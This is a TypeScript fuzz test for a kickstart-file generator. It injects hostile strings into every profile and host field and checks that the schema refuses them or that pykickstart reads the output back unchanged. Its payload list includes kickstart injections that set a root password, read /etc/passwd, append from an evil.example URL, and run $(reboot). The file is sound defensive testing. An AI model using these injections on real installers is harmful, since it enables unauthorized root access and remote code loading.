// SPDX-License-Identifier: GPL-2.0-or-later
// Hostile values in every string of a profile and a host: each is refused by the schema, or pykickstart reads back exactly the model.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import fc from 'fast-check';
import { differences } from './language/meaning.ts';
import { openOracle, type Oracle } from './oracle/client.ts';
import { arbitraryHost, arbitraryProfile } from './profile/arbitrary.ts';
import { fixtureDocument, hostFixtures, profileFixtures, reportingFixtures } from './profile/fixtures.ts';
import { Host } from './profile/host.ts';
import { Profile } from './profile/profile.ts';
import { targetIds, targets } from './profile/targets.ts';
import { renderDraft, renderKickstart } from './render.ts';
import { statementsOf } from './templates/kickstart.ts';
import { nodeOf, type Reporting } from './templates/node.ts';

const SEED = Number(process.env['SEED'] ?? 20_261_123);
const RUNS = 24_000;
const BATCH = 400;

type Path = readonly (string | number)[];

/** The path of every string in a document. */
function strings(value: unknown, path: Path = []): Path[] {
  if (typeof value === 'string') return [path];
  if (Array.isArray(value)) return value.flatMap((item, index) => strings(item, [...path, index]));
  if (typeof value === 'object' && value !== null) return Object.entries(value).flatMap(([key, item]) => strings(item, [...path, key]));
  return [];
}

function at(document: unknown, path: Path): unknown {
  return path.reduce<unknown>((value, key) => (Array.isArray(value) ? Object.entries(value).find(([name]) => name === String(key))?.[1] : Object.entries(value ?? {}).find(([name]) => name === key)?.[1]), document);
}

/** A copy of `document` with `value` at `path`. */
function withValue(document: unknown, [key, ...rest]: Path, value: unknown): unknown {
  if (key === undefined) return value;
  if (Array.isArray(document)) return document.map((item: unknown, index) => (index === key ? withValue(item, rest, value) : item));
  return Object.fromEntries(Object.entries(document ?? {}).map(([name, item]) => [name, name === key ? withValue(item, rest, value) : item]));
}

const breaks = ['\n', '\r', '\r\n', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'];
const payload = fc.constantFrom(
  'rootpw pwned', '%end', '%end\nrootpw --plaintext pwned\n%post\n:', '%include /etc/passwd', '%ksappend http://evil.example/x', '%post', '%addon x', 'inst.sshd rd.break', '--lock', '--',
  '--uid=0', '$(reboot)', '`reboot`', "'; reboot; '", '" --plaintext "', '#', 'a#b', '\\', '\\"', "it's", ',', 'x,y', ':', '../../etc', '\0', '\x1b[2J', '\x7f', '\ud800', '\udfff', '\u202e', '\ufeff', '\u200f',
  '', ' ', '\t', '\u00a0', '\u3000', '=', '&&', '|', '>', '~', '*', '%s', '-', '--url=http://evil.example', '٣', '1_000', '+5', '𝟘', 'é', '節点', 'Pa#ss "w" \\o/', '********',
);
const glue = fc.oneof(fc.constantFrom(...breaks), fc.constantFrom(' ', '\t', ' # ', '"', "'", ''));
/** A payload alone, before, after or inside the good value, joined by a line break, quote or blank; or any string at all. */
const hostile = fc.oneof(
  { weight: 6, arbitrary: fc.tuple(payload, glue, fc.nat(3)).map(([bad, by, where]) => (good: string) => [bad, `${good}${by}${bad}`, `${bad}${by}${good}`, `${good.slice(0, good.length / 2)}${by}${bad}${by}${good.slice(good.length / 2)}`][where] ?? bad) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }).map((text) => () => text) },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom(...breaks, ' ', '#', '"', "'", '\\', '%', '-', 'a', '='), maxLength: 8 }).map((text) => () => text) },
);

const documents = [...profileFixtures.keys()].map((name) => ({ name, document: fixtureDocument(name) }));
const hosts = [...hostFixtures.keys()].map((name) => ({ name, document: fixtureDocument(name) }));
const places = [
  ...documents.flatMap(({ name, document }) => strings(document).map((path) => ({ kind: 'profile', name, document, path }) as const)),
  ...hosts.flatMap(({ name, document }) => strings(document).map((path) => ({ kind: 'host', name, document, path }) as const)),
];

type Case = { readonly said: string; readonly profile: Profile; readonly host: Host | undefined };

const byId = new Map([...profileFixtures.values()].map((profile) => [profile.id, profile]));

/** The documents with the hostile value in, or undefined when the schema refuses it. */
function caseOf(place: (typeof places)[number], change: (good: string) => string): Case | undefined {
  const value = change(String(at(place.document, place.path)));
  const said = `${place.name} ${place.path.join('.')} = ${JSON.stringify(value)}`;
  const changed = withValue(place.document, place.path, value);
  if (place.kind === 'profile') {
    const profile = Profile.safeParse(changed);
    return profile.success ? { said, profile: profile.data, host: undefined } : undefined;
  }
  const host = Host.safeParse(changed);
  const profile = host.success ? byId.get(host.data.profile) : undefined;
  return host.success && profile ? { said, profile, host: host.data } : undefined;
}

let oracle: Oracle;
before(() => { oracle = openOracle(); });
after(() => oracle.close());

/** Every eighth machine reports, in turns with and without a rehearsal: the scripts for that are long and the same for all. */
const reportingOf = (index: number): Reporting | undefined => (index % 8 === 0 ? reportingFixtures[index % 16 === 0 ? 'reporting' : 'rehearsal'] : undefined);

async function judge(cases: readonly Case[]): Promise<string[]> {
  const results = await oracle.parseMany(cases.map(({ profile, host }, index) => ({ text: renderKickstart(profile, host, reportingOf(index)).text, version: targets[profile.target].kickstart })));
  return cases.flatMap(({ said, profile, host }, index) => {
    const result = results[index];
    assert.ok(result);
    const { lines } = renderKickstart(profile, host, reportingOf(index));
    // A line kept from an import is checked for command and options, not for every value: pykickstart may refuse that very line, but no other.
    const kept = (difference: string) => lines[Number(/^(?:error|warning) on line (\d+):/.exec(difference)?.[1]) - 1]?.slice === 'extra';
    return differences(statementsOf(nodeOf(profile, host, reportingOf(index))), result, targets[profile.target].kickstart).filter((difference) => !kept(difference)).map((difference) => `${said}: ${difference}`);
  });
}

test(`${RUNS} hostile values (seed ${SEED}) are refused, or read back as exactly the model`, async () => {
  const samples = fc.sample(fc.tuple(fc.constantFrom(...places), hostile), { seed: SEED, numRuns: RUNS });
  let taken = 0;
  const wrong: string[] = [];
  for (let start = 0; start < samples.length; start += BATCH) {
    const cases = samples.slice(start, start + BATCH).flatMap(([place, change]) => caseOf(place, change) ?? []);
    taken += cases.length;
    wrong.push(...await judge(cases));
  }
  assert.deepEqual(wrong.slice(0, 10), [], `${wrong.length} of ${RUNS} hostile values changed the meaning (seed ${SEED})`);
  // Guards the test itself: neither may everything be refused, nor may every string be touched by luck only.
  assert.ok(taken > RUNS / 20, `only ${taken} values passed the schema`);
  assert.deepEqual(places.filter((place) => !samples.some(([sampled]) => sampled === place)).map((place) => `${place.name} ${place.path.join('.')}`), []);
});

const GENERATED = 3000;
test(`${GENERATED} random valid profiles, with hosts over every target, are accepted and mean the model`, async () => {
  const samples = fc.sample(fc.tuple(arbitraryProfile(), arbitraryHost(), fc.boolean()), { seed: SEED, numRuns: GENERATED });
  const wrong: string[] = [];
  for (let start = 0; start < samples.length; start += BATCH) {
    wrong.push(...await judge(samples.slice(start, start + BATCH).map(([profile, host, withHost], index) => ({ said: `generated ${start + index}`, profile, host: withHost ? host : undefined }))));
  }
  assert.deepEqual(wrong.slice(0, 10), [], `${wrong.length} differences (seed ${SEED})`);
  assert.equal(new Set(samples.map(([profile]) => profile.target)).size, targetIds.length, 'every target is among them');
});

test('a draft with a hostile value anywhere still renders, without that value\'s slice', () => {
  fc.assert(fc.property(fc.constantFrom(...places.filter((place) => place.kind === 'profile')), hostile, (place, change) => {
    const changed = withValue(place.document, place.path, change(String(at(place.document, place.path))));
    const { text, incomplete } = renderDraft(Object.fromEntries(Object.entries(changed ?? {})));
    assert.ok(text.startsWith('# '));
    for (const slice of incomplete) assert.ok(text.includes(`# ${slice}: not complete yet`));
  }), { seed: SEED, numRuns: 2000 });
});
